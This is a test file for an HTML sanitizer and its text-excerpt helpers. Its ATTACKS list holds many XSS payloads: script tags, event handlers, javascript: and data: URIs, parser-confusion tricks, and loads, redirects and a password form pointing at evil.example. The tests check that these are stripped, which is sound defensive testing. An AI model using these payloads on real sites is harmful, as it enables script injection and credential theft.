import { describe, expect, it } from "vitest";
import { cleanHtml, excerptOf, proseOf, summaryOf, textOf } from "./clean-html.server.ts";

/** Scripts in every place where HTML allows them, and markup that parsers read in different ways. */
const ATTACKS = [
  "<script>alert(1)</script>",
  "<SCRIPT SRC=https://evil.example/x.js></SCRIPT>",
  "<scr<script>ipt>alert(1)</scr</script>ipt>",
  "<<script>alert(1)//<</script>",
  "<script\x00>alert(1)</script>",
  "<script/x>alert(1)</script>",
  '<img src=x onerror="alert(1)">',
  "<img/src='x'/onerror=alert(1)>",
  '<p onclick="alert(1)" onmouseover=alert(1) style="background:url(javascript:alert(1))">text</p>',
  '<a href="javascript:alert(1)">text</a>',
  '<a href="JaVaScRiPt:alert(1)">text</a>',
  '<a href=" javascript:alert(1)">text</a>',
  '<a href="java\nscript:alert(1)">text</a>',
  '<a href="java\tscript:alert(1)">text</a>',
  '<a href="&#106;&#97;vascript:alert(1)">text</a>',
  '<a href="\x01javascript:alert(1)">text</a>',
  '<a href="data:text/html,<script>alert(1)</script>">text</a>',
  '<a href="vbscript:msgbox(1)">text</a>',
  '<a href="//evil.example">text</a>',
  '<a href="/\\evil.example">text</a>',
  '<a href="https:\\\\evil.example" target="_top" onfocus=alert(1) autofocus>text</a>',
  "<svg onload=alert(1)></svg>",
  "<svg><script>alert(1)</script></svg>",
  '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>',
  '<svg><animate attributeName="href" values="javascript:alert(1)"></animate></svg>',
  "<svg><style><img src=x onerror=alert(1)></style></svg>",
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
  "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
  "<textarea><img src=x onerror=alert(1)></textarea>",
  "<title><img src=x onerror=alert(1)></title>",
  "<style>@import 'https://evil.example/x.css'; p { background: url(javascript:alert(1)) }</style>",
  "<xmp><img src=x onerror=alert(1)></xmp>",
  "<plaintext><img src=x onerror=alert(1)>",
  "<template><img src=x onerror=alert(1)></template>",
  '<iframe src="javascript:alert(1)"></iframe>',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<object data="data:text/html,<script>alert(1)</script>"></object>',
  '<embed src="https://evil.example/x.swf">',
  '<base href="https://evil.example/">',
  '<meta http-equiv="refresh" content="0;url=https://evil.example">',
  '<link rel="stylesheet" href="https://evil.example/x.css">',
  '<form action="https://evil.example"><input name="password"><button>Sign in</button></form>',
  '<video poster="javascript:alert(1)"><source onerror="alert(1)"></video>',
  "<details open ontoggle=alert(1)>text</details>",
  "<marquee onstart=alert(1)>text</marquee>",
  "<!--><img src=x onerror=alert(1)>-->",
  "<!--<img src='--><img src=x onerror=alert(1)>'>",
  "<![CDATA[<img src=x onerror=alert(1)>]]>",
  "<?xml version='1.0'?><p>text</p>",
  '<p id="main" class="fixed" name="cookie" data-x="1" contenteditable slot="x">text</p>',
  "<div><p>a<div>b</p></div></div>",
  "<b><p>a</b>b</p><table><tr><td><b>c</table>",
  "<a href='/x'>a<a href='/y'>b</a></a>",
  "<p>a<h2>b<ul>c<li>d<blockquote>e",
  "<ol start='5\" onclick=\"alert(1)'><li>text</li></ol>",
  "&lt;script&gt;alert(1)&lt;/script&gt; &amp;lt;img src=x onerror=alert(1)&amp;gt;",
  "<p>&#0;&#1;&#x0b;&#xfffe;\u0001\u0085\uFFFE</p>",
  "<div></div>".repeat(50),
  `${"<blockquote>".repeat(200)}text`,
  '<figure onclick=alert(1)><img data-picture="javascript:alert(1)" alt="x"><img data-picture="hero" alt="x" onerror=alert(1) src=x></figure>',
  '<img data-picture="hero&quot; onerror=&quot;alert(1)" alt=""><script>alert(1)</script>">',
  '<figure><a href="javascript:alert(1)//https://youtu.be/dQw4w9WgXcQ">text</a></figure>',
  '<figure><a href="https://youtube.com.evil.example/watch?v=dQw4w9WgXcQ">text</a><iframe src="https://youtu.be/dQw4w9WgXcQ"></iframe></figure>',
  '<table background="javascript:alert(1)"><tr style="x"><td colspan="9999" rowspan="x" onclick=alert(1)>text<table><tr><td>in it</table></table>',
  "<table><figure><img data-picture=hero alt=x><figcaption><table><tr><td>text</table></figcaption></figure></table>",
  "<td>text</td><tr>more</tr><figcaption>even more</figcaption>",
];

const TAGS = "p|h2|h3|h4|ul|ol|li|blockquote|pre|hr|br|strong|em|u|s|code|sub|sup|a|figure|figcaption|table|tr|th|td";
/** Matches clean HTML: allowed tags, without attributes except link targets and list starts. */
const CLEAN = new RegExp(
  `^(?:[^<]|</?(?:${TAGS})(?: /)?>|<a href="(?:(?:https?|mailto|tel):|/(?![/\\\\])|#|[^":/\\\\]+(?:["/]|$))[^"<>]*">|<ol start="[^"<>]*">|<t[hd](?: (?:col|row)span="\\d+")+>|<img data-picture="[a-z0-9-]+" alt="[^"<>]*" />)*$`,
);

describe("cleanHtml", () => {
  it.each(ATTACKS)("removes everything that runs or loads: %s", (html) => {
    expect(cleanHtml(html)).toMatch(CLEAN);
    expect(cleanHtml(`<p>before</p>${html}`)).toMatch(CLEAN);
  });

  it.each(ATTACKS)("is idempotent: %s", (html) => {
    const clean = cleanHtml(html);
    expect(cleanHtml(clean)).toBe(clean);
  });

  it.each([
    ["<p>One <strong>two</strong> <em>three</em></p><h2>Four</h2><ul><li>five</li></ul><hr />"],
    [
      '<p><a href="/Admissions/Apply">Apply</a> <a href="https://x.com/a?b=1&amp;c=2">b</a> <a href="mailto:a@b.example">c</a></p>',
    ],
    ['<ol start="3"><li>a<ul><li>b</li></ul></li></ol><blockquote><p>c</p></blockquote><pre>\n d\n</pre>'],
    ["<p>Ọmọlará &amp; Ẹ̀ṣẹ́: 5 &lt; 6, “quoted”</p>"],
    [
      '<figure><img data-picture="news-yams" alt="Yams &quot;in&quot; a row." /><figcaption>A &amp; B</figcaption></figure>',
    ],
    [
      `<figure><img data-picture="lib-${"0a".repeat(16)}" alt="" /><img data-picture="hero-campus" alt="Gate" /></figure>`,
    ],
    [
      '<figure><a href="https://www.youtube.com/watch?v=dQw4w9WgXcQ"><img data-picture="hero-campus" alt="" />The day</a></figure>',
    ],
    ['<table><tr><th colspan="2">Fee</th></tr><tr><td>Law</td><td><p>1</p><p>2</p></td></tr></table><p>after</p>'],
  ])("keeps allowed HTML unchanged: %s", (html) => {
    expect(cleanHtml(html)).toBe(html);
  });

  it.each([
    [
      "a figure out of its paragraph",
      '<div>One <figure><img data-picture="hero" alt="Gate"></figure> two</div>',
      '<p>One </p><figure><img data-picture="hero" alt="Gate" /></figure><p> two</p>',
    ],
    ["no picture outside a figure", '<p>One <img data-picture="hero" alt="Gate"></p>', "<p>One </p>"],
    [
      "no picture of another site",
      '<figure><img src="https://x.example/a.jpg"><figcaption>Gate</figcaption></figure>',
      "<p>Gate</p>",
    ],
    [
      "videos under one address",
      '<figure><a href="https://youtu.be/dQw4w9WgXcQ?si=x">The <b>day</b></a></figure>',
      '<figure><a href="https://www.youtube.com/watch?v=dQw4w9WgXcQ">The day</a></figure>',
    ],
    [
      "a link of a figure that is no video as a link",
      '<figure><a href="https://x.example/">The day</a></figure>',
      '<p><a href="https://x.example/">The day</a></p>',
    ],
    [
      "cells in rows, and tables in nothing else",
      "<table><thead><tr><th>A</th></tr></thead><tbody><td>B</td></tbody></table><ul><li><table><tr><td>C</td></tr></table></li></ul>",
      "<table><tr><th>A</th></tr><tr><td>B</td></tr></table><ul><li>C</li></ul>",
    ],
  ])("leaves %s", (_, html, clean) => {
    expect(cleanHtml(html)).toBe(clean);
  });

  it("keeps the text of removed elements, except scripts and styles", () => {
    expect(cleanHtml("<div>One <span>two</span></div><script>three</script><h1>four</h1>")).toBe(
      "<p>One two</p><h2>four</h2>",
    );
  });

  it.each([
    ["of paragraphs", "<p>word word</p>", 5],
    ["of open tags", "<div>", 5],
    ["of open tags after unmatched end tags", "<div></x>", 1],
    ["of links in links", '<a href="/">', 5],
    ["of misnested bold paragraphs", "<b><p>x</b>", 1],
    ["of unclosed comments", "<!--", 5],
    ["of unclosed attributes", '<p a="', 5],
    ["of less-than signs", "<", 1],
    ["of ampersands", "&", 1],
    ["of tables in tables", "<table><tr><td>", 1],
    ["of figures in figures", '<figure><img data-picture="hero">x', 1],
  ])("finishes in time for megabytes %s", { tags: "slow" }, (_, piece, megabytes) => {
    const html = piece.repeat((megabytes * 1_000_000) / piece.length);
    const clean = cleanHtml(html);
    expect(textOf(clean).length).toBeLessThanOrEqual(html.length);
  });
});

describe("the text of figures and tables", () => {
  const html =
    '<figure><img data-picture="hero" alt="Gate" /><figcaption>The gate.</figcaption></figure><p>See <a href="/x">us</a>.</p><table><tr><th>Fee</th><td>5</td></tr></table>';

  it("has captions and cells, each apart", () => {
    expect(textOf(cleanHtml(html))).toBe("The gate. See us. Fee 5");
  });

  it("has no caption in what introduces a post, unless there is nothing else", () => {
    expect(proseOf(cleanHtml(html))).toBe("See us. Fee 5");
    expect(proseOf("<figure><figcaption>The gate.</figcaption></figure>")).toBe("The gate.");
  });
});

describe("summaryOf", () => {
  it("ends at a word, with an ellipsis", () => {
    expect(summaryOf(`${"palm ".repeat(29)}grove, university`)).toBe(`${"palm ".repeat(29).trim()}…`);
    expect(summaryOf(`${"palm, ".repeat(40)}`)).toBe(`${"palm, ".repeat(25).replace(/, $/, "")}…`);
  });

  it("returns a short text unchanged", () => {
    expect(summaryOf("Four hundred yams.")).toBe("Four hundred yams.");
  });

  it("truncates between grapheme clusters without spaces", () => {
    expect(summaryOf("ẹ́".repeat(200))).toBe(`${"ẹ́".repeat(150)}...`);
  });
});

describe("excerptOf", () => {
  it("returns the first 150 characters of the text, not of the markup, and three dots (deviation 36)", () => {
    const text = textOf(cleanHtml(`<h2>Head</h2><p>${"<strong>ab</strong> ".repeat(100)}</p>`));
    expect(excerptOf(text)).toBe(`${text.slice(0, 150).trimEnd()}...`);
    expect(excerptOf(text)).toMatch(/^Head ab ab/);
  });

  it("counts grapheme clusters", () => {
    expect(excerptOf("ẹ́".repeat(200))).toBe(`${"ẹ́".repeat(150)}...`);
  });
});
